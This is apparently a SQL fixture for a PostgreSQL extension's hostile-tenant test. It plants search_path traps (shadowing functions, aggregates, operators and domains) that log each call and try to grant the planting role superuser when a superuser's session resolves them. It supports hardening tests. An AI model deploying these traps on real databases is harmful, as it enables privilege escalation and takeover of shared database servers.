-- The traps of test/hostile-tenant.test.ts: what a non-superuser database
-- owner (r_dbowner) can plant where a superuser's session looks for names.
-- Run as r_dbowner.  Nothing here is picked by hand: the caller passes what
-- the built extension scripts name (functions and aggregates called, every
-- word, every operator token), and public.hx_plant() makes, from the
-- pg_catalog entries of those names:
--   'better' mode (any search_path): functions and aggregates with argument
--     types that match our calls BETTER than pg_catalog's (polymorphic,
--     "any" and VARIADIC arguments made concrete; one argument replaced by a
--     type that casts implicitly to pg_catalog's), in schema i_fn_schema,
--     and operators for every pair of argument types that pg_catalog only
--     serves through casts or polymorphism (mixed-type signatures), in
--     i_op_schema;
--   'exact' mode (for a search_path that puts i_fn_schema before
--     pg_catalog): copies with pg_catalog's own signatures of every such
--     function, aggregate and operator, and a domain named like every
--     pg_catalog base type the scripts name.
-- Every trap records its call in public.hx_called (INSERT granted to PUBLIC),
-- advances public.hx_called_seq (not undone by a rollback), and tries to make
-- r_dbowner a superuser.
--   select public.hx_plant(calls, words, ops, mode, fn_schema, op_schema)
-- returns the number of objects made.

create table public.hx_called (what text, by_role name default current_user, at timestamptz default clock_timestamp());
grant insert on public.hx_called to public;
create sequence public.hx_called_seq;
grant usage on sequence public.hx_called_seq to public;

-- the body of every trap: record, escalate, return i_ret
create function public.hx_body(i_what text, i_ret text) returns text
language sql immutable set search_path = pg_catalog as $f$
    select format($b$begin
    perform pg_catalog.nextval('public.hx_called_seq');
    insert into public.hx_called (what) values (%L);
    begin
        execute 'alter role r_dbowner superuser';
    exception when others then
        null;
    end;
    %s
end$b$, i_what, i_ret);
$f$;

-- a domain's CHECK: the same trap
create function public.hx_check(i_what text) returns boolean
language plpgsql set search_path = pg_catalog as $f$
begin
    perform pg_catalog.nextval('public.hx_called_seq');
    insert into public.hx_called (what) values ('domain ' || i_what);
    begin
        execute 'alter role r_dbowner superuser';
    exception when others then
        null;
    end;
    return true;
end
$f$;

-- i_arg with polymorphic types replaced for element type i_e; NULL when
-- the combination cannot exist
create function public.hx_subst(i_arg oid, i_e oid) returns oid
language sql stable set search_path = pg_catalog as $f$
    select case
        when i_arg in ('anyelement'::regtype, 'anycompatible'::regtype, '"any"'::regtype) then i_e
        when i_arg in ('anynonarray'::regtype, 'anycompatiblenonarray'::regtype) then
            case when (select typcategory from pg_type where oid = i_e) = 'A' then null else i_e end
        when i_arg in ('anyarray'::regtype, 'anycompatiblearray'::regtype) then
            case when (select typcategory from pg_type where oid = i_e) = 'A' then i_e
                 else nullif((select typarray from pg_type where oid = i_e), 0) end
        else i_arg end;
$f$;

create function public.hx_is_poly(i_t oid) returns boolean
language sql stable set search_path = pg_catalog as $f$
    select (select typtype from pg_type where oid = i_t) = 'p'
       and i_t not in ('void'::regtype, 'record'::regtype, 'trigger'::regtype, 'cstring'::regtype);
$f$;

create function public.hx_plant(i_calls text[], i_words text[], i_ops text[], i_mode text,
                                i_fn_schema text, i_op_schema text)
returns int
language plpgsql set search_path = pg_catalog as $plant$
declare
    -- the types our code hands to functions and operators (every type the
    -- extension's tables, arguments and casts use, and their neighbours)
    v_types  oid[] := array(select t::regtype::oid from unnest(array[
        'text', 'name', '"char"', 'varchar', 'bpchar', 'int2', 'int4', 'int8', 'numeric', 'float8', 'oid',
        'bool', 'timestamptz', 'timestamp', 'date', 'interval', 'bytea', 'json', 'jsonb', 'regclass',
        'regnamespace', 'regproc', 'regprocedure', 'regtype', 'txid_snapshot', 'pg_snapshot', 'xid8',
        'int2vector', 'oidvector', 'unknown', 'text[]', 'name[]', 'int2[]', 'int4[]', 'int8[]', 'oid[]',
        'bool[]', 'timestamptz[]', 'bytea[]', 'jsonb[]']) t);
    v_optypes oid[] := array(select t::regtype::oid from unnest(array[
        'text', 'name', '"char"', 'varchar', 'int2', 'int4', 'int8', 'numeric', 'oid', 'bool', 'timestamptz',
        'interval', 'regclass', 'txid_snapshot', 'xid8', 'int2vector', 'text[]', 'int4[]', 'int8[]', 'oid[]',
        'name[]']) t);
    v_core   oid[] := array(select t::regtype::oid from unnest(array['text', 'int4', 'int8', 'name', 'oid', 'bool', 'numeric']) t);
    -- (to_regtype: the multirange pseudo-types are new in PostgreSQL 14)
    v_bad    oid[] := array(select to_regtype(t)::oid from unnest(array['internal', 'cstring', 'language_handler',
        'fdw_handler', 'index_am_handler', 'tsm_handler', 'table_am_handler', 'event_trigger', 'trigger',
        'anyrange', 'anymultirange', 'anycompatiblerange', 'anycompatiblemultirange', 'pg_ddl_command', 'anyenum']) t
        where to_regtype(t) is not null);
    r        record;
    v_n      int := 0;
    v_in     oid[];
    v_cand   oid[];
    v_e      oid;
    v_l      oid;
    v_r      oid;
    v_ret    oid;
    v_res    regtype;
    v_sig    text;
    v_args   text;
    v_outs   text;
    v_rettxt text;
    v_i      int;
    v_k      int;
    v_seen   text[] := '{}';
begin
    if i_mode = 'better' then
        -- functions and aggregates: concrete signatures that beat pg_catalog's
        for r in
            select p.oid, p.proname, p.prokind, p.proretset, p.prorettype, p.provariadic,
                   -- (oidvector counts from 0)
                   array(select t from unnest(p.proargtypes::oid[]) with ordinality u(t, o) order by o) as args,
                   p.proallargtypes, p.proargmodes, p.proargnames
              from pg_proc p
              left join pg_aggregate a on a.aggfnoid = p.oid
             where p.pronamespace = 'pg_catalog'::regnamespace
               and p.proname = any (i_calls)
               and (p.prokind = 'f' or (p.prokind = 'a' and a.aggkind = 'n'))
               and p.pronargs between 1 and 6
               and not (p.proargtypes::oid[] && v_bad) and not (p.prorettype = any (v_bad))
        loop
            v_in := r.args;
            -- candidates as 'arg oids;result oid;element oid'
            v_seen := '{}';
            if exists (select 1 from unnest(v_in) t where public.hx_is_poly(t)) then
                foreach v_e in array v_types loop
                    -- every polymorphic argument (and the result) for element v_e
                    v_cand := array(select public.hx_subst(t, v_e) from unnest(v_in) with ordinality x(t, o) order by o);
                    v_ret := public.hx_subst(r.prorettype, v_e);
                    if r.provariadic = '"any"'::regtype then
                        -- VARIADIC "any": 1 to 3 plain arguments of that type
                        for v_k in 1 .. 3 loop
                            v_seen := v_seen || format('%s;%s;%s', array_to_string(
                                v_cand[1:array_length(v_cand, 1) - 1] || array_fill(v_e, array[v_k]), ','), v_ret, v_e);
                        end loop;
                    elsif array_position(v_cand, null) is null then
                        v_seen := v_seen || format('%s;%s;%s', array_to_string(v_cand, ','), v_ret, v_e);
                    end if;
                end loop;
                if r.provariadic = '"any"'::regtype then
                    -- two mixed ones (format('%s %s', text, int4))
                    foreach v_l in array v_core loop
                        foreach v_r in array v_core loop
                            v_seen := v_seen || format('%s;%s;%s', array_to_string(
                                v_in[1:array_length(v_in, 1) - 1] || array[v_l, v_r], ','), r.prorettype, 'text'::regtype::oid);
                        end loop;
                    end loop;
                end if;
            else
                if r.provariadic <> 0 then
                    -- VARIADIC text[] and the like: 1 to 3 plain arguments
                    for v_k in 1 .. 3 loop
                        v_seen := v_seen || format('%s;%s;0', array_to_string(
                            v_in[1:array_length(v_in, 1) - 1] || array_fill(r.provariadic, array[v_k]), ','), r.prorettype);
                    end loop;
                end if;
                -- one argument replaced by a type that casts to it implicitly
                for v_i in 1 .. array_length(v_in, 1) loop
                    for v_e in
                        select c.castsource from pg_cast c
                         where c.casttarget = v_in[v_i] and c.castcontext = 'i' and c.castsource = any (v_types)
                    loop
                        v_cand := v_in;
                        v_cand[v_i] := v_e;
                        v_seen := v_seen || format('%s;%s;0', array_to_string(v_cand, ','), r.prorettype);
                    end loop;
                end loop;
            end if;

            foreach v_sig in array coalesce((select array_agg(distinct s) from unnest(v_seen) s), '{}') loop
                v_cand := string_to_array(split_part(v_sig, ';', 1), ',')::oid[];
                v_ret := nullif(split_part(v_sig, ';', 2), '')::oid;
                v_e := nullif(split_part(v_sig, ';', 3), '0')::oid;
                continue when v_cand is null or array_position(v_cand, null) is not null or v_cand && v_bad
                           or exists (select 1 from unnest(v_cand) t where public.hx_is_poly(t))
                           or v_ret is null or (public.hx_is_poly(v_ret) and v_ret not in ('void'::regtype, 'record'::regtype));
                v_args := (select string_agg(format_type(t, null), ', ' order by o) from unnest(v_cand) with ordinality x(t, o));
                -- pg_catalog has this very signature: it is found first anyway
                continue when to_regprocedure(format('pg_catalog.%I(%s)', r.proname, v_args)) is not null;
                -- OUT columns as pg_catalog has them
                v_outs := (select string_agg(format('out %I %s', coalesce(r.proargnames[o], 'o' || o),
                                                    format_type(case when public.hx_is_poly(t) then public.hx_subst(t, coalesce(v_e, 'text'::regtype)) else t end, null)),
                                             ', ' order by o)
                             from unnest(r.proallargtypes, r.proargmodes) with ordinality x(t, m, o)
                            where m in ('o', 't'));
                v_rettxt := case when v_outs is not null then
                                     case when r.proretset then 'setof record' else 'record' end
                                 else case when r.proretset then 'setof ' else '' end || format_type(v_ret, null) end;
                begin
                    if r.prokind = 'f' then
                        execute format('create function %I.%I(%s) returns %s language plpgsql set search_path = pg_catalog as %L',
                                       i_fn_schema, r.proname, concat_ws(', ', v_args, v_outs), v_rettxt,
                                       public.hx_body(format('function %s(%s)', r.proname, v_args),
                                                      case when r.proretset or v_outs is not null or v_ret = 'void'::regtype
                                                           then 'return;' else 'return null;' end));
                        v_n := v_n + 1;
                    elsif v_ret <> 'void'::regtype and v_outs is null then
                        execute format('create function %I.%I(%s, %s) returns %s language plpgsql set search_path = pg_catalog as %L',
                                       i_fn_schema, 'hx_sfunc_' || v_n, format_type(v_ret, null), v_args, format_type(v_ret, null),
                                       public.hx_body(format('aggregate %s(%s)', r.proname, v_args), 'return $1;'));
                        execute format('create aggregate %I.%I(%s) (sfunc = %I.%I, stype = %s)',
                                       i_fn_schema, r.proname, v_args, i_fn_schema, 'hx_sfunc_' || v_n, format_type(v_ret, null));
                        v_n := v_n + 1;
                    end if;
                exception
                    when duplicate_function or invalid_function_definition or invalid_object_definition
                         or datatype_mismatch or wrong_object_type or feature_not_supported or undefined_object then
                        null;
                end;
            end loop;
        end loop;

        -- operators: every pair of types that pg_catalog's operator of that
        -- name takes only through a cast or a polymorphic signature
        for r in
            select distinct o.oprname from pg_operator o
             where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprname = any (i_ops)
        loop
            foreach v_l in array array[0::oid] || v_optypes loop
                foreach v_r in array v_optypes loop
                    v_args := case when v_l = 0 then format('none, %s', format_type(v_r, null))
                                   else format('%s, %s', format_type(v_l, null), format_type(v_r, null)) end;
                    continue when to_regoperator(format('pg_catalog.%s(%s)', r.oprname, v_args)) is not null;
                    begin
                        execute format('select pg_catalog.pg_typeof(%s operator(pg_catalog.%s) null::%s)',
                                       case when v_l = 0 then '' else format('null::%s', format_type(v_l, null)) end,
                                       r.oprname, format_type(v_r, null))
                           into v_res;
                    exception when others then
                        continue; -- pg_catalog cannot do it either: our code does not
                    end;
                    begin
                        execute format('create function %I.%I(%s) returns %s language plpgsql set search_path = pg_catalog as %L',
                                       i_op_schema, 'hx_op_' || v_n,
                                       replace(v_args, 'none, ', ''), v_res,
                                       public.hx_body(format('operator %s(%s)', r.oprname, v_args), 'return null;'));
                        execute format('create operator %I.%s (%s rightarg = %s, function = %I.%I)',
                                       i_op_schema, r.oprname,
                                       case when v_l = 0 then '' else format('leftarg = %s,', format_type(v_l, null)) end,
                                       format_type(v_r, null), i_op_schema, 'hx_op_' || v_n);
                        v_n := v_n + 1;
                    exception
                        when duplicate_function or invalid_function_definition or invalid_object_definition
                             or datatype_mismatch or wrong_object_type or feature_not_supported or syntax_error
                             or invalid_parameter_value then
                            null;
                    end;
                end loop;
            end loop;
        end loop;
        return v_n;
    end if;

    -- 'exact': pg_catalog's own signatures, for a path that searches
    -- i_fn_schema first
    for r in
        select p.oid, p.proname, p.prokind, pg_get_function_arguments(p.oid) args,
               pg_get_function_identity_arguments(p.oid) ident, pg_get_function_result(p.oid) res, p.proretset,
               p.prorettype, p.proallargtypes is not null as has_out
          from pg_proc p
          left join pg_aggregate a on a.aggfnoid = p.oid
         where p.pronamespace = 'pg_catalog'::regnamespace
           and p.proname = any (i_calls)
           and (p.prokind = 'f' or (p.prokind = 'a' and a.aggkind = 'n'))
           and not (p.proargtypes::oid[] && v_bad) and not (p.prorettype = any (v_bad))
    loop
        begin
            if r.prokind = 'f' then
                execute format('create function %I.%I(%s) returns %s language plpgsql set search_path = pg_catalog as %L',
                               i_fn_schema, r.proname,
                               replace(replace(r.args, 'VARIADIC "any"', 'VARIADIC text[]'), '"any"', 'text'), r.res,
                               public.hx_body(format('exact function %s(%s)', r.proname, r.ident),
                                              case when r.proretset or r.has_out or r.prorettype = 'void'::regtype
                                                   then 'return;' else 'return null;' end));
            elsif r.ident <> '' then
                execute format('create function %I.%I(text, %s) returns text language plpgsql set search_path = pg_catalog as %L',
                               i_fn_schema, 'hx_xsfunc_' || r.oid, replace(r.ident, '"any"', 'text'),
                               public.hx_body(format('exact aggregate %s(%s)', r.proname, r.ident), 'return $1;'));
                execute format('create aggregate %I.%I(%s) (sfunc = %I.%I, stype = text)',
                               i_fn_schema, r.proname, replace(r.ident, '"any"', 'text'), i_fn_schema, 'hx_xsfunc_' || r.oid);
            end if;
            v_n := v_n + 1;
        exception when others then
            null; -- a signature PL/pgSQL cannot take
        end;
    end loop;
    for r in
        select o.oid, o.oprname, o.oprleft, o.oprright, o.oprresult
          from pg_operator o
         where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprname = any (i_ops)
           and not (o.oprleft = any (v_bad) or o.oprright = any (v_bad) or o.oprresult = any (v_bad))
    loop
        begin
            execute format('create function %I.%I(%s) returns %s language plpgsql set search_path = pg_catalog as %L',
                           i_fn_schema, 'hx_xop_' || r.oid,
                           concat_ws(', ', case when r.oprleft <> 0 then format_type(r.oprleft, null) end,
                                     case when r.oprright <> 0 then format_type(r.oprright, null) end),
                           format_type(r.oprresult, null),
                           public.hx_body(format('exact operator %s', r.oid::regoperator), 'return null;'));
            execute format('create operator %I.%s (%s %s function = %I.%I)', i_fn_schema, r.oprname,
                           case when r.oprleft <> 0 then format('leftarg = %s,', format_type(r.oprleft, null)) else '' end,
                           case when r.oprright <> 0 then format('rightarg = %s,', format_type(r.oprright, null)) else '' end,
                           i_fn_schema, 'hx_xop_' || r.oid);
            v_n := v_n + 1;
        exception when others then
            null;
        end;
    end loop;
    -- types: a domain over each pg_catalog base type the scripts name
    for r in
        select t.typname from pg_type t
         where t.typnamespace = 'pg_catalog'::regnamespace and t.typtype = 'b'
           and t.typname = any (i_words) and t.typcategory <> 'A'
    loop
        begin
            execute format('create domain %I.%I as pg_catalog.%I check (public.hx_check(%L))',
                           i_fn_schema, r.typname, r.typname, r.typname);
            v_n := v_n + 1;
        exception when others then
            null;
        end;
    end loop;
    return v_n;
end;
$plant$;
